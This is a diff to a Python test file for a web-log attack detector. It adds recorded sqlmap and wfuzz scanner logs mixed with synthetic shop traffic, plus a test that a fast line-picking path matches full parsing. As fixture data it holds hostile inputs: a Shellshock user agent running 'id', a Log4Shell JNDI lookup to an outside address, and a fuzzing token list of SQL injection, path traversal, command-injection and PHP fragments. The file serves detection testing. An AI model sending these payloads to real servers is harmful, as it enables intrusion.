@@ -19,6 +19,7 @@ from tests.logs.test_signals import ATTACKS, BENIGN
 
 ROOT = Path(__file__).parents[2]
 EXTRA_PAYLOADS = ROOT / "benchmarks" / "logs" / "extra_payloads.txt"
+SCANNER_LOGS = ROOT / "benchmarks" / "logs" / "scanners"
 FIXTURE = Path(__file__).parent / "fixtures" / "access.log"
 
 
@@ -48,7 +49,7 @@ def _mixed_log() -> list[str]:
     lines = [access(f"203.0.113.{i % 50}", t, status=(200, 404, 500, 403, 429)[i % 5], at=i) for i, t in enumerate(targets)]
     lines += [access("203.0.113.60", t, status=404, agent=agent, at=800 + i) for i, (t, agent) in enumerate(
         [("/gone", "{{7*7}}"), ("/gone2", "() { :; }; /bin/bash -c id"), ("/a@b.example", BROWSER), ("/x?token=abc", BROWSER),
-         ("/y", "Nikto/2.5.0"), ("/.git/config", BROWSER), ("/z", BROWSER)])]
+         ("/y", "Nikto/2.5.0"), ("/.git/config", BROWSER), ("/z", BROWSER), ("/w", "X-Auth-Token: 0f3c9a7be21d4c58a6e0")])]
     lines += [access("198.51.100.7", "/", agent="sqlmap/1.7.2#stable (https://sqlmap.org)", at=900),
               access("198.51.100.8", "/login", method="POST", status=401, at=901),
               access("198.51.100.9", "/", agent="${jndi:ldap://203.0.113.9/a}", at=902)]
@@ -64,11 +65,39 @@ def test_fast_path_finds_what_parsing_every_line_finds(tmp_path, monkeypatch):
     assert {rule for rule, *_ in picked} >= set(payloads.families().owner)
 
 
+def _real_sample() -> list[str]:
+    """Real scanner runs (sqlmap and wfuzz against the benchmark's app, as its web server logged them), from a
+    public address, between a shop's requests: pages, missing thumbnails asked by the page (with a Referer),
+    the same missing files asked directly, 5xx, logins."""
+    lines = []
+    for index, log in enumerate(sorted(SCANNER_LOGS.glob("*.log"))):
+        lines += [text.replace("127.0.0.1 ", f"198.51.100.{10 + index} ", 1) for text in log.read_text("utf-8").splitlines()]
+    page = "https://shop.example/p/1"
+    shop = []
+    for i in range(60):
+        shop += [access("203.0.113.70", f"/static/thumbs/{i}.jpg", status=404, referer=page, at=i),
+                 access("203.0.113.71", f"/static/thumbs/{i}.jpg", status=404, at=i),  # no referer: counted as probing
+                 access("203.0.113.72", f"/static/thumbs/{i}.JPG?v=%31", status=404, referer=page, at=i),
+                 access("203.0.113.73", f"/assets/{i}.css", status=(403, 410, 429, 500)[i % 4], referer=page, at=i),
+                 access("203.0.113.74", "/login", method="POST", status=401, at=i)]
+    return [line for pair in zip(lines, shop) for line in pair] + lines[len(shop):]
+
+
+def test_fast_path_finds_what_parsing_every_line_finds_in_real_scanner_runs(tmp_path, monkeypatch):
+    path = write(tmp_path, "access.log", _real_sample())
+    picked = _signals(path)
+    monkeypatch.setattr(LinePicker, "picks", _every_line)
+    assert picked == _signals(path)
+    assert {"log-sql-injection", "log-scanner", "log-probing", "log-brute-force", "log-rate-limited"} <= {r for r, *_ in picked}
+
+
 _PIECES = ["'", "%27", "%2527", '"', "%22", " ", "+", "%20", "/**/", "or", "and", "1=1", "1", "select", "from", "union",
            "all", "(", ")", "%28", "sleep", "--", "#", "%23", ";", "..", "/", "\\", "%5C", "x27", "etc", "passwd", "win.ini",
            "<", ">", "script", "alert", "onerror=", "${", "}", "jndi:", "ldap:", "http://", "127.0.0.1", "&&", "|", "ls", "id",
            "cat", "$(", "`", "{{", "}}", "7*7", "@", "@@version", "document.cookie", "javascript:", "&#39;", "&#x27;",
-           "%0a", "waitfor delay '0:0:5'", "information_schema", "benchmark", "char", "0x41", "case when", "then", "=", "&"]
+           "%0a", "waitfor delay '0:0:5'", "information_schema", "benchmark", "char", "0x41", "case when", "then", "=", "&",
+           "%00", ".php", "ping -n 3 ", "10.0.0.1", "<?php", "system(", "onfocus=", " autofocus ", "data:;base64,pd9w",
+           "o:4:\"x\":1:{", "%0d%0a"]
 
 
 @settings(max_examples=400, deadline=None)
